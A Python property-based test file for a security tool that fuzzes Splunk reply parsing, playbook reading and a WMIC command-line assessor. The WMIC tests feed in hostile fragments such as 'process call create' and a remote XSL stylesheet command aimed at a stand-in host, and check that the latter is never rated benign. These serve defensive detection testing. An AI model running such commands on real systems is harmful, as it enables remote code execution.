"""Readers of what others wrote, fed with anything: command lines, playbooks, Splunk's replies.

Each gives a judgement or its own one error, never another exception, and never good news from what
it could not read.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from connectors.errors import Unavailable
from connectors.http import Repeat, Reply
from connectors.model import SearchPhase
from connectors.siem.splunk import jobs
from runner.catalogue import CATALOGUE
from runner.playbook import PlaybookFaults, read_playbook, shipped_playbooks
from runner.wmic import assess_line
from runner.yaml_reader import Fault
from tests.hostile import steering

ANYTHING = st.text(st.characters(codec=None), max_size=80)

# -- Splunk's replies ------------------------------------------------------------------------------

SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | ANYTHING
    | st.sampled_from(["1", "true", "DONE", "FAILED", "FATAL", "WARN", "-1", "1e5", ""])
)
NAMES = st.sampled_from(
    [
        *("entry", "content", "messages", "results", "type", "text", "isDone", "isFailed", "warn"),
        *("preview", "dispatchState", "resultCount", "isFinalized", "isZombie", "host", "cmdline"),
        *("searchEarliestTime", "searchLatestTime", "_raw"),
    ]
)
TREES = st.recursive(
    SCALARS,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(NAMES | ANYTHING, inner, max_size=4)
    ),
    max_leaves=15,
)


def read_json(body: bytes) -> Any:
    headers = {"Content-Type": "application/json"}
    reply = Reply(status=200, headers=headers, body=body, product="splunk", repeat=Repeat.SAFE)
    return reply.json(pairs=jobs.merge_pairs)


@given(TREES | st.builds(lambda rows, more: {**more, "results": rows}, TREES, st.just({})))
def test_page_when_it_is_any_json_then_rows_that_can_be_stored_or_unavailable(tree: Any) -> None:
    try:
        page = jobs.read_page(read_json(json.dumps(tree).encode()))
    except Unavailable:
        return
    assert len(page.rows) == len(tree["results"])
    json.dumps(page.rows, ensure_ascii=False).encode()
    for row in page.rows:
        for value in row.values():
            assert isinstance(value, str) or all(isinstance(one, str) for one in value)


GOOD = {"dispatchState": "DONE", "isDone": True, "resultCount": 3, "messages": []}


@given(st.dictionaries(NAMES, TREES, max_size=3))
@example({"messages": [{"type": "FATAL", "text": "synthetic"}]})
@example({"isFailed": "1"})
def test_status_when_any_part_of_it_is_something_else_then_complete_only_without_a_doubt(
    changed: dict[str, Any],
) -> None:
    content = {**GOOD, **changed}
    reply = {"entry": [{"content": content}]}
    try:
        status = jobs.read_status(read_json(json.dumps(reply).encode()), 500)
    except Unavailable:
        return
    json.dumps(status.messages, ensure_ascii=False).encode()
    if status.phase is SearchPhase.COMPLETE:
        assert content["dispatchState"] == "DONE"
        assert str(content["isDone"]).strip().lower() in ("1", "true", "t")
        assert int(str(content["resultCount"])) == status.row_count < 500
        said = jobs.messages_in(content["messages"])
        assert {message.kind for message in said} <= {"INFO", "DEBUG"}


DEEP = [b"[" * depth + b"]" * depth for depth in (200, 900, 1500, 5000, 20_000, 100_000)]
BODIES = [
    *DEEP,
    *(b'{"results":[{"a":' + deep + b"}]}" for deep in DEEP),
    *(b'{"messages":' + deep + b',"results":[]}' for deep in DEEP),
    b'{"results":[{"count":' + b"9" * 5000 + b"}]}",
    b'{"results":[{"count":1e999,"other":-Infinity,"third":NaN}]}',
    b'{"results":[{"a":"\xff\xfe"}]}',
    b"\xef\xbb\xbf" + b'{"results":[]}',
    b'{"results":[]}'.decode().encode("utf-16"),
]


@pytest.mark.parametrize("body", BODIES, ids=range(len(BODIES)))
def test_page_when_its_body_is_extreme_then_read_or_unavailable(body: bytes) -> None:
    try:
        page = jobs.read_page(read_json(body))
    except Unavailable:
        return
    json.dumps(page.rows, ensure_ascii=False).encode()


@given(st.binary(max_size=200) | TREES.map(lambda tree: json.dumps(tree).encode()))
@example(b'{"messages":' + DEEP[2] + b"}")
def test_error_body_when_it_is_anything_then_words_or_nothing(body: bytes) -> None:
    said = jobs.explain(500, body)
    assert said is None or isinstance(said, str)
    jobs.is_quota(body)


# -- playbooks -------------------------------------------------------------------------------------

SHIPPED = list(shipped_playbooks().values())
BITS = st.sampled_from(
    [
        *("", "no", "{{ x }}", "{% raw %}", "- ", ": ", "*a", "&a ", '"', "null", "[", "]", "{"),
        *("}", "!!str ", "\t", "\n", "  ", "\x00", "\ud800", "when: true", "---\n", "#", "|"),
        "9" * 400,
    ]
)


@given(
    st.sampled_from(SHIPPED),
    st.lists(st.tuples(st.floats(0, 1), st.integers(0, 30), BITS), min_size=1, max_size=4),
)
def test_playbook_when_damaged_anywhere_then_read_or_refused_with_places(
    text: str, damages: list[tuple[float, int, str]]
) -> None:
    for where, length, put in damages:
        start = int(where * len(text))
        text = text[:start] + put + text[start + length :]
    faults: list[Fault] = []
    try:
        playbook = read_playbook(text, "damaged.yaml", CATALOGUE)
        assert playbook.source == text
        assert playbook.steps
    except PlaybookFaults as refused:
        faults = refused.faults
        assert faults
    for fault in faults:
        assert 1 <= fault.line <= text.count("\n") + 2
        assert steering(str(fault)) == []


@given(ANYTHING)
def test_playbook_when_it_is_any_text_then_refused(text: str) -> None:
    with pytest.raises(PlaybookFaults):
        read_playbook(text, "any.yaml", CATALOGUE)


# -- command lines ---------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        *(
            "wmic ",
            "os get ",
            "/format:",
            '"',
            "'",
            "^",
            "http://h.example.test/a",
            "csv",
            "(",
            ")",
        ),
        *(
            "\\\\h\\s\\a.xsl",
            "process call create ",
            "/node:",
            "%TEMP%",
            "\u201c",
            "\ud83d",
            "\x00",
        ),
        *("\u2028", "\u202e", "\x1b[2J", "\x9b", ","),
    ]
)


@given(st.lists(PIECES | ANYTHING, max_size=12).map("".join))
def test_line_when_it_is_of_any_pieces_then_judged_in_words_that_can_be_shown(line: str) -> None:
    judged = assess_line(line)
    for text in (judged.summary, *(reason.text for reason in judged.reasons)):
        text.encode()
        assert steering(text, keep="") == [], ascii(text)


@given(st.lists(PIECES | ANYTHING, max_size=8).map("".join))
def test_line_when_a_remote_stylesheet_stands_alone_before_anything_then_never_benign(
    rest: str,
) -> None:
    judged = assess_line(f'wmic os get /format:"http://h.example.test/a.xsl" {rest}')
    assert judged.assessment != "benign"
